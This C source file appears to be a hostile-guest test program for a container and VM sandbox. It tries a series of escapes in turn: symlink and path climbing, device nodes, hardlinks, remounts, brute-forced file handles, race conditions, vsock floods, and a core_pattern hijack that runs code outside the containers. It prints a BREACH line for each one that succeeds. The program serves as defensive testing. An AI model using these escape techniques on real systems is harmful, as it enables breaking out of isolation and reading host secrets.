/*
 * A hostile guest. Runs as root with every capability and without a seccomp filter inside a
 * container and tries to reach files of the host that were not shared.
 *
 *   attack [outside ID] NAME [ARGUMENT…]
 *
 * Each attempt prints one line, `tried WHAT: RESULT`. Whatever an attempt could read is printed as
 * it is: the test looks for its secret in the output. An attempt whose mere success is a breach
 * prints `BREACH WHAT`. The last line is `done NAME`.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/vm_sockets.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#define TAG "bulkhead"

static void tried(const char *what, const char *path, long result)
{
	if (result < 0)
		printf("tried %s %s: %s\n", what, path, strerrorname_np(errno));
	else
		printf("tried %s %s: ok\n", what, path);
}

static void breach_if(int breached, const char *what, const char *path)
{
	if (breached)
		printf("BREACH %s %s\n", what, path);
}

static void join(char *to, size_t size, const char *a, const char *b)
{
	if ((size_t)snprintf(to, size, "%s%s", a, b) >= size) {
		fprintf(stderr, "path too long: %s%s\n", a, b);
		exit(2);
	}
}

/* Prints up to a page of whatever is behind a descriptor: contents or names. */
static void show_fd(int fd)
{
	char buffer[4096];
	struct stat st;

	if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
		int copy = dup(fd);
		DIR *dir = copy < 0 ? NULL : fdopendir(copy);
		struct dirent *entry;
		int left = 100;

		while (dir && left-- > 0 && (entry = readdir(dir)))
			printf("  name %s\n", entry->d_name);
		if (dir)
			closedir(dir);
		return;
	}
	ssize_t count = read(fd, buffer, sizeof(buffer));
	if (count > 0) {
		printf("  content ");
		fwrite(buffer, 1, (size_t)count, stdout);
		printf("\n");
	}
}

/* Every way to touch a file by path that a program has. */
static void touch_all(const char *path)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	tried("read", path, fd);
	if (fd >= 0) {
		show_fd(fd);
		close(fd);
	}
	fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_NONBLOCK | O_CLOEXEC, 0666);
	tried("append", path, fd);
	if (fd >= 0) {
		(void)!write(fd, "pwned\n", 6);
		close(fd);
	}
	tried("truncate", path, truncate(path, 0));
	tried("chmod", path, chmod(path, 0777));
	tried("chown", path, chown(path, 12345, 12345));
	tried("utimes", path, utimensat(AT_FDCWD, path, NULL, 0));
	tried("setxattr", path, setxattr(path, "user.pwned", "1", 1, 0));
}

/* --- symbolic links ------------------------------------------------------------------------ */

/* attack links SECRET DIRECTORY…: SECRET is a path of the host. */
static void links(int argc, char **argv)
{
	const char *secret = argv[0];
	const char *prefixes[] = {
		"", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../../../../..",
		"/..", "/../../../../../../../../../..", "../../../../../../../../../../../..",
		"/proc/self/fd/0/../../../../../..", "/dev/fd/../../../../../..",
		"/run/bulkhead/share/../../..", "/proc/1/cwd/../../../..",
	};
	char target[4096], link[4096], inner[4096];

	for (int d = 1; d < argc; d++) {
		for (size_t i = 0; i < sizeof(prefixes) / sizeof(*prefixes); i++) {
			join(target, sizeof(target), prefixes[i], secret);
			snprintf(link, sizeof(link), "%s/link-%zu", argv[d], i);
			unlink(link);
			tried("symlink", link, symlink(target, link));
			touch_all(link);
			/* A link to its directory, and the file through it. */
			snprintf(link, sizeof(link), "%s/dirlink-%zu", argv[d], i);
			unlink(link);
			strcpy(inner, target);
			*strrchr(inner, '/') = '\0';
			tried("symlink", link, symlink(inner, link));
			join(inner, sizeof(inner), link, strrchr(secret, '/'));
			touch_all(inner);
			join(inner, sizeof(inner), link, "/planted");
			touch_all(inner);
		}
		/* Plain climbing, without any link. */
		snprintf(target, sizeof(target), "%s/../../../../../../../../../..%s", argv[d], secret);
		touch_all(target);
		/* Out of a directory that is a descriptor. */
		int dir = open(argv[d], O_PATH | O_DIRECTORY);
		snprintf(target, sizeof(target), "../../../../../../..%s", secret);
		int fd = openat(dir, target, O_RDONLY);
		tried("openat", target, fd);
		if (fd >= 0)
			show_fd(fd);
	}
}

/* --- device nodes -------------------------------------------------------------------------- */

/* attack nodes PTS DIRECTORY…: PTS is the number of a terminal of the host. */
static void nodes(int argc, char **argv)
{
	unsigned pts = (unsigned)atoi(argv[0]);
	struct { mode_t type; unsigned major, minor; } devices[] = {
		{ S_IFCHR, 136, pts }, { S_IFCHR, 1, 1 }, { S_IFCHR, 1, 2 }, { S_IFCHR, 1, 4 },
		{ S_IFCHR, 1, 11 }, { S_IFCHR, 10, 232 }, { S_IFCHR, 10, 238 }, { S_IFCHR, 10, 241 },
		{ S_IFCHR, 5, 1 }, { S_IFCHR, 4, 64 },
		{ S_IFBLK, 7, 0 }, { S_IFBLK, 8, 0 }, { S_IFBLK, 253, 0 }, { S_IFBLK, 254, 0 },
		{ S_IFBLK, 259, 0 },
	};
	char path[4096];

	for (int d = 1; d < argc; d++)
		for (size_t i = 0; i < sizeof(devices) / sizeof(*devices); i++) {
			snprintf(path, sizeof(path), "%s/node-%zu", argv[d], i);
			unlink(path);
			dev_t number = makedev(devices[i].major, devices[i].minor);
			tried("mknod", path, mknod(path, devices[i].type | 0666, number));
			int fd = open(path, O_RDWR | O_NONBLOCK | O_NOCTTY);
			tried("open", path, fd);
			if (fd < 0)
				continue;
			tried("write", path, write(fd, "pwned\n", 6));
			show_fd(fd);
			close(fd);
		}
}

/* --- hard links ---------------------------------------------------------------------------- */

/* attack hardlinks FORBIDDEN DIRECTORY…: FORBIDDEN is a file of a read-only share. */
static void hardlinks(int argc, char **argv)
{
	char path[4096], empty[64];
	int fd = open(argv[0], O_RDONLY);

	for (int d = 1; d < argc; d++) {
		snprintf(path, sizeof(path), "%s/hardlink", argv[d]);
		unlink(path);
		long result = link(argv[0], path);
		tried("link", path, result);
		breach_if(result == 0, "link", path);
		result = linkat(fd, "", AT_FDCWD, path, AT_EMPTY_PATH);
		tried("link of a descriptor", path, result);
		breach_if(result == 0, "link of a descriptor", path);
		snprintf(empty, sizeof(empty), "/proc/self/fd/%d", fd);
		result = linkat(AT_FDCWD, empty, AT_FDCWD, path, AT_SYMLINK_FOLLOW);
		tried("link through proc", path, result);
		breach_if(result == 0, "link through proc", path);
		result = rename(argv[0], path);
		tried("rename", path, result);
		breach_if(result == 0, "rename", path);
		result = syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, path, 1u << 1);
		tried("exchange", path, result);
		breach_if(result == 0, "exchange", path);
	}
}

/* --- a read-only share --------------------------------------------------------------------- */

static void write_all_ways(const char *dir)
{
	char path[4096], other[4096], proc[64];
	struct { const char *what; long result; } results[24];
	size_t n = 0;

	join(path, sizeof(path), dir, "/file");
	join(other, sizeof(other), dir, "/other");
#define TRY(name, call) (results[n].what = name, errno = 0, results[n].result = (call), \
	tried(results[n].what, path, results[n].result), n++)
	TRY("write", open(path, O_WRONLY));
	TRY("read and write", open(path, O_RDWR));
	TRY("open truncating", open(path, O_RDONLY | O_TRUNC));
	TRY("truncate", truncate(path, 0));
	TRY("chmod", chmod(path, 0777));
	TRY("chown", chown(path, 1, 1));
	TRY("utimes", utimensat(AT_FDCWD, path, NULL, 0));
	TRY("setxattr", setxattr(path, "user.pwned", "1", 1, 0));
	TRY("removexattr", removexattr(path, "user.kept"));
	TRY("unlink", unlink(path));
	TRY("rename", rename(path, other));
	TRY("create", open(other, O_CREAT | O_WRONLY, 0666));
	TRY("temporary file", open(dir, O_TMPFILE | O_RDWR, 0600));
	TRY("mkdir", mkdir(other, 0777));
	TRY("mknod", mknod(other, S_IFREG | 0666, 0));
	TRY("fifo", mkfifo(other, 0666));
	TRY("symlink", symlink("/", other));
	TRY("link", link(path, other));
	TRY("chmod of the directory", chmod(dir, 0777));
	int fd = open(path, O_RDONLY);
	snprintf(proc, sizeof(proc), "/proc/self/fd/%d", fd);
	TRY("reopen for writing", open(proc, O_RDWR));
	TRY("fchmod", fchmod(fd, 0777));
	TRY("allocate", fallocate(fd, 0, 0, 1 << 20));
	void *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	TRY("map for writing", map == MAP_FAILED ? -1 : 0);
#undef TRY
	for (size_t i = 0; i < n; i++)
		breach_if(results[i].result >= 0, results[i].what, path);
}

/* attack readonly DIRECTORY: a volume shared read-only that holds a file `file`. */
static void readonly(int argc, char **argv)
{
	(void)argc;
	const char *dir = argv[0];

	write_all_ways(dir);
	tried("remount", dir, mount(NULL, dir, NULL, MS_REMOUNT | MS_BIND, NULL));
	write_all_ways(dir);
	tried("remount the file system", dir, mount(NULL, dir, NULL, MS_REMOUNT, NULL));
	write_all_ways(dir);
	mkdir("/tmp/again", 0777);
	tried("bind", dir, mount(dir, "/tmp/again", NULL, MS_BIND, NULL));
	tried("remount", "/tmp/again", mount(NULL, "/tmp/again", NULL, MS_REMOUNT | MS_BIND, NULL));
	write_all_ways("/tmp/again");
}

/* --- the share as such --------------------------------------------------------------------- */

static int same(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* Climbs above a directory from within, and reads there. */
static void climb(const char *at, int dir, const char *secret)
{
	struct stat root, up;

	fstat(dir, &root);
	fflush(stdout);
	pid_t child = fork();
	if (child == 0) {
		fchdir(dir);
		chroot(".");
		for (int i = 0; i < 50; i++)
			chdir("..");
		stat(".", &up);
		breach_if(!same(&root, &up), "climb out of", at);
		touch_all(secret + 1);
		fflush(stdout);
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

/* attack again SECRET: mounts the share a second time, and whatever else might be there. */
static void again(int argc, char **argv)
{
	const char *at = "/tmp/share";

	(void)argc;
	mkdir(at, 0777);
	tried("mount the share at", at, mount(TAG, at, "virtiofs", 0, NULL));
	int dir = open(at, O_RDONLY | O_DIRECTORY);
	printf("root of the share\n");
	show_fd(dir);
	climb(at, dir, argv[0]);
	/* Other names for the device, other file systems of the host. */
	const char *tags[] = { "/", "..", "root", "myfs", "hostshare", "" };
	for (size_t i = 0; i < sizeof(tags) / sizeof(*tags); i++) {
		int result = mount(tags[i], at, "virtiofs", 0, NULL);
		tried("mount tag", tags[i], result);
		breach_if(result == 0, "mount tag", tags[i]);
	}
	const char *kinds[] = { "hostfs", "9p", "nfs", "fuse", "vboxsf" };
	for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); i++) {
		int result = mount("/", at, kinds[i], 0, "trans=virtio");
		tried("mount kind", kinds[i], result);
		breach_if(result == 0, "mount kind", kinds[i]);
	}
}

/*
 * attack root SECRET READONLY: as the guest's root, outside of its container. Everything at the root
 * of the share, and on the volume that holds a file with the text READONLY.
 */
static void share_root(int argc, char **argv)
{
	const char *at = "/run/bulkhead/share";
	char path[4096], text[4096];

	(void)argc;
	int dir = open(at, O_RDONLY | O_DIRECTORY);
	tried("open", at, dir);
	climb(at, dir, argv[0]);
	/* Its root belongs to nobody. */
	const char *names[] = { "/planted", "/..", "/.", "/proc", "/etc" };
	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		join(path, sizeof(path), at, names[i]);
		int made = open(path, O_CREAT | O_EXCL | O_WRONLY, 0666);
		tried("create", path, made);
		breach_if(made >= 0, "create", path);
		int result = mkdir(path, 0777);
		tried("mkdir", path, result);
		breach_if(result == 0, "mkdir", path);
	}
	DIR *containers = fdopendir(dup(dir));
	struct dirent *container, *volume;
	int found = 0;
	while (containers && (container = readdir(containers))) {
		if (container->d_name[0] == '.')
			continue;
		printf("container %s\n", container->d_name);
		snprintf(path, sizeof(path), "%s/%s/planted", at, container->d_name);
		int made = open(path, O_CREAT | O_WRONLY, 0666);
		tried("create", path, made);
		breach_if(made >= 0, "create", path);
		snprintf(path, sizeof(path), "%s/%s", at, container->d_name);
		DIR *volumes = opendir(path);
		while (volumes && (volume = readdir(volumes))) {
			if (volume->d_name[0] == '.')
				continue;
			printf("shared %s\n", volume->d_name);
			snprintf(path, sizeof(path), "%s/%s/%s/file", at, container->d_name, volume->d_name);
			int fd = open(path, O_RDONLY);
			memset(text, 0, sizeof(text));
			if (fd < 0 || read(fd, text, sizeof(text) - 1) <= 0 || strcmp(text, argv[1]) != 0)
				continue;
			found = 1;
			*strrchr(path, '/') = '\0';
			write_all_ways(path);
			tried("remount", path, mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL));
			tried("remount the file system", path, mount(NULL, path, NULL, MS_REMOUNT, NULL));
			write_all_ways(path);
			/* Into the volumes beside it, which are one file system to the guest's kernel. */
			char beside[2][4096];
			snprintf(beside[0], sizeof(beside[0]), "%s/%s/rootfs", at, container->d_name);
			snprintf(beside[1], sizeof(beside[1]), "%s/%s/m0", at, container->d_name);
			char *forbidden[3] = { strcat(path, "/file"), beside[0], beside[1] };
			hardlinks(3, forbidden);
		}
	}
	printf("found the read-only volume: %s\n", found ? "yes" : "no");
}

/* --- file handles -------------------------------------------------------------------------- */

struct handle {
	unsigned bytes;
	int type;
	uint32_t words[32];
};

/* attack handles SECRET DIRECTORY…: opens whatever a made-up handle opens. */
static void handles(int argc, char **argv)
{
	char path[4096];

	for (int d = 1; d < argc; d++) {
		struct handle handle = { .bytes = 128 };
		int mount_id;
		int result = (int)syscall(SYS_name_to_handle_at, AT_FDCWD, argv[d], &handle, &mount_id, 0);
		tried("name_to_handle_at", argv[d], result);
		if (result == 0)
			printf("  handle type %#x of %u bytes\n", handle.type, handle.bytes);
		int at = open(argv[d], O_RDONLY | O_DIRECTORY);
		int opened = 0;
		/* FUSE's handles: node id, generation, and those of the parent. */
		for (uint32_t node = 0; node < 4000; node++)
			for (int with_parent = 0; with_parent < 2; with_parent++) {
				handle.type = with_parent ? 0x82 : 0x81;
				handle.bytes = with_parent ? 24 : 12;
				memset(handle.words, 0, sizeof(handle.words));
				handle.words[1] = node;
				handle.words[4] = node ? node - 1 : 0;
				int fd = (int)syscall(SYS_open_by_handle_at, at, &handle, O_RDONLY | O_NONBLOCK);
				if (fd < 0)
					continue;
				if (opened++ < 200) {
					show_fd(fd);
					snprintf(path, sizeof(path), "../../../../../../../..%s", argv[0]);
					int up = openat(fd, path, O_RDONLY);
					if (up >= 0) {
						show_fd(up);
						close(up);
					}
				}
				close(fd);
			}
		printf("opened %d handles\n", opened);
	}
}

/* --- races --------------------------------------------------------------------------------- */

/*
 * attack race ROUNDS SECRET DIRECTORY: one process exchanges a directory and a file with symbolic
 * links again and again, the other walks through them.
 */
static void race(int argc, char **argv)
{
	(void)argc;
	int rounds = atoi(argv[0]);
	const char *secret = argv[1];
	char outside[4096], path[4096];

	if (chdir(argv[2]) != 0)
		exit(2);
	strcpy(outside, secret);
	*strrchr(outside, '/') = '\0';
	const char *name = strrchr(secret, '/') + 1;
	mkdir("race", 0777);
	if (chdir("race") != 0)
		exit(2);
	mkdir("dir", 0777);
	mkdir("dir/deep", 0777);
	snprintf(path, sizeof(path), "dir/%s", name);
	close(open(path, O_CREAT | O_WRONLY, 0666));
	close(open("file", O_CREAT | O_WRONLY, 0666));
	symlink(outside, "dirlink");
	snprintf(path, sizeof(path), "../../../../../../../../..%s", outside);
	symlink(path, "climblink");
	symlink(secret, "filelink");

	pid_t child = fork();
	if (child == 0) {
		for (;;) {
			syscall(SYS_renameat2, AT_FDCWD, "dir", AT_FDCWD, "dirlink", 1u << 1);
			syscall(SYS_renameat2, AT_FDCWD, "file", AT_FDCWD, "filelink", 1u << 1);
			syscall(SYS_renameat2, AT_FDCWD, "dir", AT_FDCWD, "climblink", 1u << 1);
			rename("dir/deep", "deep");
			rename("deep", "dir/deep");
		}
	}
	int reached = 0;
	for (int i = 0; i < rounds; i++) {
		snprintf(path, sizeof(path), "dir/%s", name);
		int fd = open(path, O_RDONLY);
		if (fd >= 0) {
			reached++;
			show_fd(fd);
			close(fd);
		}
		fd = open(path, O_WRONLY | O_TRUNC);
		if (fd >= 0) {
			(void)!write(fd, "pwned\n", 6);
			close(fd);
		}
		snprintf(path, sizeof(path), "dir/planted-%d", i);
		fd = open(path, O_CREAT | O_EXCL | O_WRONLY, 0666);
		if (fd >= 0)
			close(fd);
		fd = open("file", O_WRONLY | O_APPEND);
		if (fd >= 0) {
			(void)!write(fd, "pwned\n", 6);
			close(fd);
		}
		/* From a directory that is being moved, upwards. */
		int deep = open("dir/deep", O_RDONLY | O_DIRECTORY);
		if (deep >= 0) {
			snprintf(path, sizeof(path), "../../../../../../../../..%s", secret);
			fd = openat(deep, path, O_RDONLY);
			if (fd >= 0) {
				show_fd(fd);
				close(fd);
			}
			close(deep);
		}
		chmod("filelink", 0777);
		truncate("file", 3);
		sched_yield();
	}
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	printf("reached the own file %s\n", reached > 0 ? "yes" : "no");
}

/* --- FIFOs and sockets --------------------------------------------------------------------- */

/* attack pipes DIRECTORY: the host has put a FIFO `host.fifo` and a socket `host.sock` there. */
static void pipes(int argc, char **argv)
{
	(void)argc;
	char path[4096];
	struct sockaddr_un name = { .sun_family = AF_UNIX };

	join(path, sizeof(path), argv[0], "/host.fifo");
	int fd = open(path, O_WRONLY | O_NONBLOCK);
	tried("open for writing", path, fd);
	breach_if(fd >= 0, "a reader on the host", path);
	fd = open(path, O_RDWR | O_NONBLOCK);
	tried("open both ways", path, fd);
	if (fd >= 0)
		tried("write", path, write(fd, "pwned\n", 6));
	join(path, sizeof(path), argv[0], "/host.sock");
	strncpy(name.sun_path, path, sizeof(name.sun_path) - 1);
	fd = socket(AF_UNIX, SOCK_STREAM, 0);
	long result = connect(fd, (struct sockaddr *)&name, sizeof(name));
	tried("connect", path, result);
	breach_if(result == 0, "connect", path);
	fd = socket(AF_UNIX, SOCK_DGRAM, 0);
	result = sendto(fd, "pwned\n", 6, MSG_DONTWAIT, (struct sockaddr *)&name, sizeof(name));
	tried("send", path, result);
	breach_if(result == 6, "send", path);
	/* Its own may be made, and work inside the guest. */
	join(path, sizeof(path), argv[0], "/guest.fifo");
	tried("mkfifo", path, mkfifo(path, 0666));
	fd = open(path, O_RDWR | O_NONBLOCK);
	tried("open both ways", path, fd);
	join(path, sizeof(path), argv[0], "/guest.sock");
	strncpy(name.sun_path, path, sizeof(name.sun_path) - 1);
	fd = socket(AF_UNIX, SOCK_STREAM, 0);
	tried("bind", path, bind(fd, (struct sockaddr *)&name, sizeof(name)));
}

/* --- names --------------------------------------------------------------------------------- */

/* attack names DIRECTORY: names of every length, depth and byte; all of it is removed again. */
static void names(int argc, char **argv)
{
	(void)argc;
	char name[5000];

	if (chdir(argv[0]) != 0)
		exit(2);
	for (int length = 250; length <= 260; length++) {
		memset(name, 'n', (size_t)length);
		name[length] = '\0';
		int fd = open(name, O_CREAT | O_WRONLY, 0666);
		breach_if((fd >= 0) != (length <= 255), "a name of the wrong length", argv[0]);
		unlink(name);
	}
	memset(name, 'n', 4999);
	name[4999] = '\0';
	tried("create", "a name of 4999 bytes", open(name, O_CREAT | O_WRONLY, 0666));
	for (int byte = 1; byte < 256; byte++) {
		char odd[] = { (char)byte, 'x', (char)byte, '\0' };
		if (byte == '/')
			continue;
		int fd = open(odd, O_CREAT | O_WRONLY, 0666);
		breach_if(fd < 0, "a byte was refused in a name", argv[0]);
		close(fd);
		unlink(odd);
	}
	/* Deeper than any path can name. */
	memset(name, 'd', 200);
	name[200] = '\0';
	int depth = 0;
	while (depth < 60 && mkdir(name, 0777) == 0 && chdir(name) == 0)
		depth++;
	printf("went %d deep\n", depth);
	int fd = open("../../../../../../../../etc/shadow", O_RDONLY);
	tried("climb", "from the deep", fd);
	if (fd >= 0)
		show_fd(fd);
	while (depth-- > 0) {
		if (chdir("..") != 0 || rmdir(name) != 0) {
			tried("come back", argv[0], -1);
			break;
		}
	}
	printf("came back to %d\n", depth + 1);
}

/* --- extended attributes ------------------------------------------------------------------- */

/* attack xattrs DIRECTORY… */
static void xattrs(int argc, char **argv)
{
	const char *attributes[] = {
		"trusted.bulkhead", "trusted.overlay.opaque", "trusted.overlay.redirect",
		"trusted.overlay.metacopy", "trusted.overlay.origin", "security.selinux", "security.ima",
		"security.evm", "user.bulkhead", "system.nonsense", "nonsense",
	};
	char path[4096], value[4096];

	for (int d = 0; d < argc; d++) {
		join(path, sizeof(path), argv[d], "/attributed");
		close(open(path, O_CREAT | O_WRONLY, 0666));
		for (size_t i = 0; i < sizeof(attributes) / sizeof(*attributes); i++) {
			printf("%s: ", attributes[i]);
			tried("setxattr", path, setxattr(path, attributes[i], "/etc", 4, 0));
		}
		ssize_t size = listxattr(path, value, sizeof(value));
		for (ssize_t at = 0; at < size; at += (ssize_t)strlen(value + at) + 1)
			printf("  has %s\n", value + at);
		memset(value, 'x', sizeof(value));
		tried("large attribute", path, setxattr(path, "user.large", value, sizeof(value), 0));
	}
}

/* --- vsock --------------------------------------------------------------------------------- */

/* Connects within ten seconds; 0, or -1 with errno. */
static int dial(int type, unsigned cid, unsigned port)
{
	struct sockaddr_vm address = { .svm_family = AF_VSOCK, .svm_cid = cid, .svm_port = port };
	int error = 0;
	socklen_t length = sizeof(error);
	int fd = socket(AF_VSOCK, type | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	int result = connect(fd, (struct sockaddr *)&address, sizeof(address));
	if (result < 0 && errno == EINPROGRESS) {
		struct pollfd ready = { .fd = fd, .events = POLLOUT };
		if (poll(&ready, 1, 10000) == 0) {
			close(fd);
			errno = ETIMEDOUT;
			return -1;
		}
		getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length);
		result = error ? -1 : 0;
	} else {
		error = errno;
	}
	close(fd);
	errno = error;
	return result;
}

/* attack vsock FLOOD: connects to ports of the host nobody expects it at. */
static void vsock(int argc, char **argv)
{
	(void)argc;
	int flood = atoi(argv[0]);
	unsigned ports[] = { 1024, 0, 1, 22, 53, 80, 111, 443, 1023, 1025, 2375, 0xffff, 0x20000,
		0x7fffffff, 0x80000000, 0xfffffffe };
	unsigned cids[] = { 0, 1, 2, 3, 4, 5, 0x7fffffff, 0xfffffffe };
	int types[] = { SOCK_STREAM, SOCK_SEQPACKET, SOCK_DGRAM };
	char what[64];

	for (size_t t = 0; t < 3; t++)
		for (size_t i = 0; i < sizeof(ports) / sizeof(*ports); i++) {
			if (types[t] == SOCK_DGRAM && i > 0)
				break;
			snprintf(what, sizeof(what), "type %d port %u", types[t], ports[i]);
			int result = dial(types[t], VMADDR_CID_HOST, ports[i]);
			tried("connect", what, result);
			breach_if(result == 0 && types[t] != SOCK_DGRAM, "connect", what);
			breach_if(result != 0 && errno == ETIMEDOUT, "no answer", what);
		}
	for (size_t i = 0; i < sizeof(cids) / sizeof(*cids); i++) {
		if (cids[i] == VMADDR_CID_HOST)
			continue;
		snprintf(what, sizeof(what), "cid %u", cids[i]);
		int result = dial(SOCK_STREAM, cids[i], 1024);
		tried("connect", what, result);
		breach_if(result == 0, "connect", what);
	}
	/* One after the other, then as many at once as there are descriptors. */
	int refused = 0;
	for (int i = 0; i < flood; i++)
		if (dial(SOCK_STREAM, VMADDR_CID_HOST, 2000u + (unsigned)i) != 0)
			refused++;
	printf("refused %d of %d one by one\n", refused, flood);
	int count = 0, fds[900];
	for (; count < 900; count++) {
		struct sockaddr_vm address = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST,
			.svm_port = 5000u + (unsigned)count };
		fds[count] = socket(AF_VSOCK, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
		if (fds[count] < 0)
			break;
		connect(fds[count], (struct sockaddr *)&address, sizeof(address));
	}
	refused = 0;
	for (int i = 0; i < count; i++) {
		struct pollfd ready = { .fd = fds[i], .events = POLLOUT };
		int error = 0;
		socklen_t length = sizeof(error);
		poll(&ready, 1, 10000);
		getsockopt(fds[i], SOL_SOCKET, SO_ERROR, &error, &length);
		refused += error != 0 && (ready.revents & (POLLERR | POLLHUP));
		close(fds[i]);
	}
	printf("refused %d of %d at once\n", refused, count);
}

/* --- the console --------------------------------------------------------------------------- */

/* attack kmsg TEXT: says it on the kernel's console. */
static void kmsg(int argc, char **argv)
{
	(void)argc;
	char line[512];
	int log = open("/dev/kmsg", O_WRONLY);

	snprintf(line, sizeof(line), "<0>%s\n", argv[0]);
	tried("write", "kmsg", write(log, line, strlen(line)));
}

/* --- exhaustion ---------------------------------------------------------------------------- */

/* Counts the files of a directory that can be looked at. */
static int count_files(const char *at)
{
	DIR *dir = opendir(at);
	struct dirent *entry;
	struct stat st;
	int seen = 0;

	while (dir && (entry = readdir(dir)))
		if (entry->d_name[0] != '.' && fstatat(dirfd(dir), entry->d_name, &st, 0) == 0)
			seen++;
	if (dir)
		closedir(dir);
	return seen;
}

/*
 * attack files COUNT DIRECTORY: makes files until the host has no descriptors left for them or there
 * are COUNT, then gives the descriptors back and counts.
 */
static void files(int argc, char **argv)
{
	(void)argc;
	int count = atoi(argv[0]), made = 0, open_at_once = 0, fds[900];
	char name[64];

	if (chdir(argv[1]) != 0 || (mkdir("many", 0777) != 0 && errno != EEXIST) || chdir("many") != 0)
		exit(2);
	for (; made < count; made++) {
		snprintf(name, sizeof(name), "%d", made);
		int fd = open(name, O_CREAT | O_WRONLY, 0666);
		if (fd < 0) {
			tried("create", name, fd);
			break;
		}
		if (open_at_once < 900)
			fds[open_at_once++] = fd;
		else
			close(fd);
	}
	while (open_at_once > 0)
		close(fds[--open_at_once]);
	/* What the guest's kernel remembers costs the host a descriptor each. */
	int drop = open("/proc/sys/vm/drop_caches", O_WRONLY);
	tried("write", "drop_caches", write(drop, "2\n", 2));
	printf("made %d saw %d\n", made, count_files("."));
}

/* --- outside of the container -------------------------------------------------------------- */

struct attack {
	const char *name;
	void (*run)(int, char **);
	int least;
};

static const struct attack attacks[] = {
	{ "links", links, 2 }, { "nodes", nodes, 2 }, { "hardlinks", hardlinks, 2 },
	{ "readonly", readonly, 1 }, { "again", again, 1 }, { "root", share_root, 2 },
	{ "handles", handles, 2 }, { "race", race, 3 }, { "pipes", pipes, 1 },
	{ "names", names, 1 }, { "xattrs", xattrs, 1 }, { "vsock", vsock, 1 },
	{ "files", files, 2 }, { "kmsg", kmsg, 1 },
};

static int run_attack(int argc, char **argv)
{
	for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++)
		if (argc >= 1 + attacks[i].least && strcmp(argv[0], attacks[i].name) == 0) {
			attacks[i].run(argc - 1, argv + 1);
			printf("done %s\n", argv[0]);
			fflush(stdout);
			return 0;
		}
	fprintf(stderr, "usage: attack [outside ID] NAME ARGUMENT...\n");
	return 2;
}

/*
 * attack outside ID NAME ARGUMENT…: the same as the guest's root. The kernel pipes a core dump to a
 * program that it starts beside the agent, outside of all containers; the rest is in files.
 */
static int outside(int argc, char **argv)
{
	struct rlimit unlimited = { RLIM_INFINITY, RLIM_INFINITY };
	char buffer[65536];
	FILE *arguments = fopen("/attack-arguments", "w");

	for (int i = 1; i < argc; i++)
		fprintf(arguments, "%s%c", argv[i], '\0');
	fclose(arguments);
	mkdir("/tmp/proc", 0700);
	mount("proc", "/tmp/proc", "proc", 0, NULL);
	/* The agent's root lies over the kernel's own; `..` leads up to it. */
	snprintf(buffer, sizeof(buffer), "|/../run/bulkhead/share/%s/rootfs/attack @ %s", argv[0], argv[0]);
	int pattern = open("/tmp/proc/sys/kernel/core_pattern", O_WRONLY);
	if (write(pattern, buffer, strlen(buffer)) < 0) {
		perror("core_pattern");
		return 2;
	}
	setrlimit(RLIMIT_CORE, &unlimited);
	pid_t child = fork();
	if (child == 0) {
		signal(SIGSEGV, SIG_DFL);
		raise(SIGSEGV);
		_exit(4);
	}
	/* It ends when the reader of its core dump has. */
	waitpid(child, NULL, 0);
	int output = open("/attack-output", O_RDONLY);
	for (ssize_t count; (count = read(output, buffer, sizeof(buffer))) > 0;)
		(void)!write(1, buffer, (size_t)count);
	return output < 0 ? 2 : 0;
}

/* The kernel's helper: arguments and output are in the root of container ID. */
static int as_helper(const char *id)
{
	static char text[65536];
	char path[4096], *argv[64];
	int argc = 0;

	chdir("/..");
	chroot(".");
	snprintf(path, sizeof(path), "/run/bulkhead/share/%s/rootfs/attack-arguments", id);
	ssize_t size = read(open(path, O_RDONLY), text, sizeof(text) - 1);
	for (char *at = text; at < text + size && argc < 63; at += strlen(at) + 1)
		argv[argc++] = at;
	argv[argc] = NULL;
	snprintf(path, sizeof(path), "/run/bulkhead/share/%s/rootfs/attack-output", id);
	int output = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	dup2(output, 1);
	dup2(output, 2);
	return run_attack(argc, argv);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOFBF, 1 << 16);
	umask(0);
	if (argc > 3 && strcmp(argv[1], "outside") == 0)
		return outside(argc - 2, argv + 2);
	if (argc == 3 && strcmp(argv[1], "@") == 0)
		return as_helper(argv[2]);
	return run_attack(argc - 1, argv + 1);
}
